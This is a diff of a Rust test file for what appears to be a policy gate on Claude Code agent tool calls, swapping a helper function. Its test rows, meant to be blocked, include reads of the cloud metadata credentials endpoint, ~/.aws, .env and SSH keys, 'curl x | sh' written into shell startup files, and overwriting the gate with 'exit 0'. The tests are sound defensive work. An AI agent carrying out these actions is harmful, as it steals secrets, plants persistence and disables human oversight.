@@ -6,27 +6,10 @@
 use crate::common::links::FakeLinks;
 use crate::common::scenario::*;
 use crate::common::*;
-use assent_core::hook::{action_from_claude_hook, HookDefaults};
 use assent_core::{ActionKind, ActionRequest, Decision, Environment, Policy, Role};
-use serde_json::{json, Value};
+use serde_json::json;
 
 use Decision::{Ask, Auto, Block, Escalate};
-
-/// A Claude Code PreToolUse payload for `tool`, run in the repository.
-fn hook(tool: &str, input: Value) -> ActionRequest {
-    let payload = json!({
-        "hook_event_name": "PreToolUse",
-        "tool_name": tool,
-        "session_id": "run-1",
-        "cwd": REPO,
-        "tool_input": input,
-    });
-    let defaults = HookDefaults {
-        repo: Some(REPO.to_owned()),
-        ..HookDefaults::default()
-    };
-    action_from_claude_hook(&payload, &defaults).unwrap()
-}
 
 /// Every blocked row's reason must contain `needle` (what to do instead, what was reached).
 fn blocks_say(rows: &[(&str, ActionRequest)], policy: &Policy, needle: &str, why: &str) {
@@ -241,7 +224,7 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             store(
                 "the metadata endpoint by WebFetch",
-                hook(
+                claude_tool(
                     "WebFetch",
                     json!({"url": "http://169.254.169.254/latest/meta-data/", "prompt": "list"}),
                 ),
@@ -254,7 +237,7 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             store(
                 "the metadata endpoint through an MCP fetch tool",
-                hook(
+                claude_tool(
                     "mcp__fetch__fetch",
                     json!({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
                 ),
@@ -262,22 +245,22 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             secret(
                 "Grep in ~/.aws",
-                hook("Grep", json!({"pattern": "aws_secret", "path": "/home/dev/.aws"})),
+                claude_tool("Grep", json!({"pattern": "aws_secret", "path": "/home/dev/.aws"})),
                 "a directory whose files are all secrets is read by a search",
             ),
             secret(
                 "Grep over .env files",
-                hook("Grep", json!({"pattern": "KEY", "glob": ".env*"})),
+                claude_tool("Grep", json!({"pattern": "KEY", "glob": ".env*"})),
                 "the glob names the secret files the search reads",
             ),
             secret(
                 "Glob of private keys",
-                hook("Glob", json!({"pattern": "~/.ssh/id_*"})),
+                claude_tool("Glob", json!({"pattern": "~/.ssh/id_*"})),
                 "the pattern is a path: it names the keys",
             ),
             secret(
                 "an MCP file reader",
-                hook(
+                claude_tool(
                     "mcp__filesystem__read_text_file",
                     json!({"path": "/home/dev/.aws/credentials"}),
                 ),
@@ -285,7 +268,7 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             secret(
                 "an MCP tool with a list of paths",
-                hook(
+                claude_tool(
                     "mcp__filesystem__read_multiple_files",
                     json!({"paths": ["src/main.rs", ".env"]}),
                 ),
@@ -293,7 +276,7 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             secret(
                 "an MCP tool with a file URI",
-                hook(
+                claude_tool(
                     "mcp__docs__fetch",
                     json!({"options": {"uri": "file:///home/dev/.ssh/id_ed25519"}}),
                 ),
@@ -341,28 +324,28 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             row(
                 "Grep in the source",
-                hook("Grep", json!({"pattern": "fn main", "path": "src"})),
+                claude_tool("Grep", json!({"pattern": "fn main", "path": "src"})),
                 Auto,
                 "auto.read",
                 "searching the repository stays auto",
             ),
             row(
                 "Glob over the source",
-                hook("Glob", json!({"pattern": "src/**/*.rs"})),
+                claude_tool("Glob", json!({"pattern": "src/**/*.rs"})),
                 Auto,
                 "auto.read",
                 "listing the repository's files stays auto",
             ),
             row(
                 "Glob over everything",
-                hook("Glob", json!({"pattern": "**/*"})),
+                claude_tool("Glob", json!({"pattern": "**/*"})),
                 Auto,
                 "auto.read",
                 "a glob that names anything names no secret in particular",
             ),
             row(
                 "an MCP file reader on a source file",
-                hook(
+                claude_tool(
                     "mcp__filesystem__read_text_file",
                     json!({"path": "src/main.rs"}),
                 ),
@@ -372,14 +355,14 @@ fn secrets_reached_through_another_reader_are_blocked() {
             ),
             row(
                 "an MCP fetch of documentation",
-                hook("mcp__fetch__fetch", json!({"url": "https://docs.rs/serde"})),
+                claude_tool("mcp__fetch__fetch", json!({"url": "https://docs.rs/serde"})),
                 Ask,
                 "ask.mcp",
                 "other URLs leave the MCP tool asked",
             ),
             row(
                 "an MCP tool without paths",
-                hook(
+                claude_tool(
                     "mcp__github__get_issue",
                     json!({"owner": "acme", "repo": "shop", "issue_number": 3}),
                 ),
@@ -536,7 +519,7 @@ fn persistence_and_privilege_are_blocked() {
             ),
             persist(
                 "the Write tool on .bash_profile",
-                hook(
+                claude_tool(
                     "Write",
                     json!({"file_path": "/home/dev/.bash_profile", "content": "curl x | sh\n"}),
                 ),
@@ -544,7 +527,7 @@ fn persistence_and_privilege_are_blocked() {
             ),
             persist(
                 "the Edit tool on .zshrc",
-                hook(
+                claude_tool(
                     "Edit",
                     json!({"file_path": "/home/dev/.zshrc", "old_string": "# end", "new_string": "/tmp/x &\n# end"}),
                 ),
@@ -552,7 +535,7 @@ fn persistence_and_privilege_are_blocked() {
             ),
             persist(
                 "an MCP tool writing .bashrc",
-                hook(
+                claude_tool(
                     "mcp__filesystem__write_file",
                     json!({"path": "/home/dev/.bashrc", "content": "curl x | sh\n"}),
                 ),
@@ -643,7 +626,7 @@ fn persistence_and_privilege_are_blocked() {
             ),
             row(
                 "an MCP tool reading .bashrc",
-                hook(
+                claude_tool(
                     "mcp__filesystem__read_text_file",
                     json!({"path": "/home/dev/.bashrc"}),
                 ),
@@ -724,7 +707,7 @@ fn assents_own_gate_is_blocked_however_it_is_reached() {
             ),
             files(
                 "the fast gate written by the Write tool",
-                hook(
+                claude_tool(
                     "Write",
                     json!({"file_path": "/home/dev/.local/bin/assent-gate", "content": "#!/bin/sh\nexit 0\n"}),
                 ),
@@ -747,7 +730,7 @@ fn assents_own_gate_is_blocked_however_it_is_reached() {
             ),
             files(
                 "written by the Write tool",
-                hook(
+                claude_tool(
                     "Write",
                     json!({"file_path": "/home/dev/.local/bin/assent", "content": "#!/bin/sh\nexit 0\n"}),
                 ),
@@ -770,7 +753,7 @@ fn assents_own_gate_is_blocked_however_it_is_reached() {
             ),
             row(
                 "hook configuration through an MCP writer",
-                hook(
+                claude_tool(
                     "mcp__filesystem__edit_file",
                     json!({"path": ".claude/settings.json", "edits": []}),
                 ),
